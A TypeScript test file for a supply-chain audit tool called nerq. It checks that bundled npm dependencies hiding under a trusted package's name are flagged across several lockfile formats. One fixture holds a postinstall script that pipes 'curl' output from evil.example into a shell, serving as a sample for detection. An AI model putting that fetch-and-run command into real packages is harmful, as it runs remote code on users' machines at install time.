/**
 * Hostile world: bundled dependencies. A package can ship dependencies inside its own tarball
 * (`bundleDependencies`): npm installs them from that tarball, not from the registry, and runs
 * their install scripts as it installs. A lockfile entry for one (package-lock `inBundle`, v1
 * `bundled`, bun `"bundled": true`) names the package and version of a trusted release, yet the
 * code is whatever the bundling package put there. nerq must neither score such an entry as the
 * registry's release (a fine score for code it never saw) nor miss a bundled install script:
 * the bundled entries are listed with the package that carries them (audit JSON
 * `subject.bundled`, with the lockfile line), and a bundled package's postinstall is install-time
 * code of the package that bundles it, named by the bundled package.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkOf, osvNoAdvisories } from '../cli/helpers.js';
import { parseAudit, serveOsv, serveSynthetic, TempDirs, writeIn, type SyntheticPackage } from '../cli/audit-helpers.js';
import { startFixtureServer, type FixtureServer } from '../support/fixture-server.js';
import { makeTarball } from '../support/tarball.js';
import { requireCli, runHostile } from './support/cli.js';
import { CLI_TEST_TIMEOUT_MS, expectCleanStderr } from './support/expect.js';
import { noteCases } from './support/metrics.js';
import { closeWorlds, evaluate, version, vouchedFor } from './support/package-world.js';

/** The trusted name a bundle hides code under, and the package that bundles it. */
const TRUSTED: SyntheticPackage = { name: 'nerq-trusted', version: '4.1.0' };
const CARRIER: SyntheticPackage = { name: 'nerq-carrier', version: '1.0.0' };

const dirs = new TempDirs();
let server: FixtureServer;

beforeAll(async () => {
  requireCli();
  server = await startFixtureServer();
  serveOsv(server, []);
  serveSynthetic(server, TRUSTED);
  serveSynthetic(server, CARRIER);
  server.fallback('GET', '/github/', { status: 404, body: '{"message":"Not Found"}' });
  server.fallback('POST', '/github/', { status: 404, body: '{"message":"Not Found"}' });
});

afterAll(async () => {
  await server?.close();
  await closeWorlds();
  dirs.cleanUp();
});

const MANIFEST = JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { [CARRIER.name]: CARRIER.version } });
const carrierEntry = { version: CARRIER.version, bundleDependencies: [TRUSTED.name], dependencies: { [TRUSTED.name]: TRUSTED.version } };

/** The carrier bundling a copy named as the trusted release, in each lockfile that can say so; the key of the bundled entry's line. */
const FORMATS: Record<string, { files: Record<string, string>; bundledAt: string }> = {
  'package-lock v3': {
    files: {
      'package.json': MANIFEST,
      'package-lock.json': JSON.stringify(
        {
          name: 'app',
          lockfileVersion: 3,
          packages: {
            '': { dependencies: { [CARRIER.name]: CARRIER.version } },
            [`node_modules/${CARRIER.name}`]: carrierEntry,
            [`node_modules/${CARRIER.name}/node_modules/${TRUSTED.name}`]: { version: TRUSTED.version, inBundle: true },
          },
        },
        null,
        2,
      ),
    },
    bundledAt: `"node_modules/${CARRIER.name}/node_modules/${TRUSTED.name}": {`,
  },
  'package-lock v1': {
    files: {
      'package.json': MANIFEST,
      'package-lock.json': JSON.stringify(
        {
          name: 'app',
          lockfileVersion: 1,
          dependencies: { [CARRIER.name]: { version: CARRIER.version, requires: { [TRUSTED.name]: TRUSTED.version }, dependencies: { [TRUSTED.name]: { version: TRUSTED.version, bundled: true } } } },
        },
        null,
        2,
      ),
    },
    bundledAt: `"${TRUSTED.name}": {`,
  },
  bun: {
    files: {
      'package.json': MANIFEST,
      'bun.lock': [
        '{',
        '  "lockfileVersion": 1,',
        `  "workspaces": { "": { "name": "app", "dependencies": { "${CARRIER.name}": "${CARRIER.version}" } } },`,
        '  "packages": {',
        `    "${CARRIER.name}": ["${CARRIER.name}@${CARRIER.version}", "", { "dependencies": { "${TRUSTED.name}": "${TRUSTED.version}" } }, ""],`,
        `    "${CARRIER.name}/${TRUSTED.name}": ["${TRUSTED.name}@${TRUSTED.version}", "", { "bundled": true }, ""],`,
        '  }',
        '}',
        '',
      ].join('\n'),
    },
    bundledAt: `"${CARRIER.name}/${TRUSTED.name}": [`,
  },
  'pnpm v9': {
    files: {
      'package.json': MANIFEST,
      'pnpm-lock.yaml': [
        "lockfileVersion: '9.0'",
        'importers:',
        '  .:',
        '    dependencies:',
        `      ${CARRIER.name}:`,
        `        specifier: ${CARRIER.version}`,
        `        version: ${CARRIER.version}`,
        'packages:',
        `  ${CARRIER.name}@${CARRIER.version}:`,
        '    resolution: {integrity: sha512-AAAA}',
        '    bundledDependencies:',
        `      - ${TRUSTED.name}`,
        'snapshots:',
        `  ${CARRIER.name}@${CARRIER.version}: {}`,
        '',
      ].join('\n'),
    },
    // pnpm locks no package for it: the carrier's own entry is where the lockfile says so.
    bundledAt: `  ${CARRIER.name}@${CARRIER.version}:`,
  },
};

const lineOf = (text: string, needle: string): number => text.split('\n').findIndex((l) => l.includes(needle)) + 1;

describe('a bundled look-alike of a trusted package in the lockfile', () => {
  it.concurrent.for(Object.keys(FORMATS))('%s: not audited as the registry release; listed with the package that bundles it', { timeout: CLI_TEST_TIMEOUT_MS }, async (format, { task, expect }) => {
    noteCases(task);
    const { files, bundledAt } = FORMATS[format]!;
    const dir = dirs.make();
    for (const [name, content] of Object.entries(files)) writeIn(dir, name, content);
    const run = await runHostile(['audit', dir, '--json', '--timeout', '30', '--allow-incomplete'], { server });
    const context = `${format}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    const report = parseAudit(run.stdout);
    // No score is lent to the bundled copy under the trusted name.
    expect(report.entries.filter((e) => e.subject.name === TRUSTED.name), context).toEqual([]);
    const lockfile = Object.keys(files).find((f) => f !== 'package.json')!;
    const carrier = report.entries.find((e) => e.subject.name === CARRIER.name);
    expect(carrier?.subject.bundled?.map((b) => [b.name, b.file, b.line]), context).toEqual([[TRUSTED.name, lockfile, lineOf(files[lockfile]!, bundledAt)]]);
    expect(report.warnings.filter((w) => w.code === 'input-note' && w.message.includes(`"${CARRIER.name}@${CARRIER.version}" bundles a dependency`)), context).toHaveLength(1);
  });
});

describe('a bundled dependency with an install script, in the tarball', () => {
  const tarball = (bundle: Record<string, unknown>, bundleDependencies: string[]) =>
    makeTarball([
      { path: 'package.json', content: JSON.stringify({ name: 'chalk', version: '4.1.0', bundleDependencies, dependencies: { 'ansi-styles': '^4.1.0', 'supports-color': '^7.1.0' } }) },
      { path: 'readme.md', content: '# chalk\n' },
      { path: 'node_modules/ansi-styles/package.json', content: JSON.stringify(bundle) },
      { path: 'node_modules/ansi-styles/index.js', content: 'module.exports = {};\n' },
    ]);

  it('a postinstall that fetches code: install-time code of the package, named by the bundled package, and the verdict is held', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task }) => {
    noteCases(task);
    const bundle = { name: 'ansi-styles', version: '4.3.0', scripts: { postinstall: 'curl -s https://evil.example/x | sh' } };
    const overrides = vouchedFor(tarball(bundle, ['ansi-styles']), (p) => void (version(p).bundleDependencies = ['ansi-styles']));
    const { report, sandbox } = await evaluate(task, 'bundled postinstall', { ...overrides, osv: osvNoAdvisories });
    sandbox.remove();
    const check = checkOf(report, 'install-scripts');
    expect(check.score).toBe(10);
    expect(check.evidence.bundled).toEqual(['ansi-styles@4.3.0']);
    expect(check.evidence.commands).toEqual(['postinstall (bundled ansi-styles@4.3.0): curl -s https://evil.example/x | sh']);
    expect(report.verdictCode).not.toBe('yes');
  });

  it('code under node_modules/ the manifest does not bundle: a manifest-confusion difference', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task }) => {
    noteCases(task);
    const { report, sandbox } = await evaluate(task, 'undeclared bundle', { ...vouchedFor(tarball({ name: 'ansi-styles', version: '4.3.0' }, [])), osv: osvNoAdvisories });
    sandbox.remove();
    const check = checkOf(report, 'manifest-confusion');
    expect(check.score).toBe(0);
    expect(check.evidence.differences).toContain('"node_modules/ansi-styles" shipped in the tarball, not in its bundleDependencies');
  });
});
